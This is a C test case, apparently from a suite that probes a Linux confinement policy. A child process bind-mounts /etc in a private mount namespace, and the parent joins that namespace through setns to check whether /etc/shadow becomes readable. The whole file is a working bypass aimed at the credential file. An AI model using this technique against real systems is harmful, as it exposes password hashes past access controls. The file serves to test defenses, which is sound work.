// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Has a child bind /etc to a readable place in its mount namespace, enters that namespace and
 * reads the secret there. Source: setns(2); 6.12 survey, "setns: no hook". Control: it can be read.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

static _Noreturn void live_elsewhere(int ready)
{
	if (unshare(CLONE_NEWNS) || (mkdir("/tmp/lab-setns", 0755) && errno != EEXIST) ||
	    mount("/etc", "/tmp/lab-setns", NULL, MS_BIND, NULL))
		_exit(1);
	if (write(ready, "r", 1) == 1)
		sleep(30);
	_exit(0);
}

void attack(void)
{
	char path[64], byte;
	int ready[2], fd;
	pid_t pid;

	if (pipe2(ready, O_CLOEXEC))
		broken("pipe");
	pid = fork();
	if (pid == 0)
		live_elsewhere(ready[1]);
	close(ready[1]);
	if (read(ready[0], &byte, 1) != 1)
		no_effect(errno);
	snprintf(path, sizeof(path), "/proc/%d/ns/mnt", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || setns(fd, CLONE_NEWNS))
		no_effect(errno);
	kill(pid, SIGKILL);
	judge(file_readable("/tmp/lab-setns/shadow"));
}
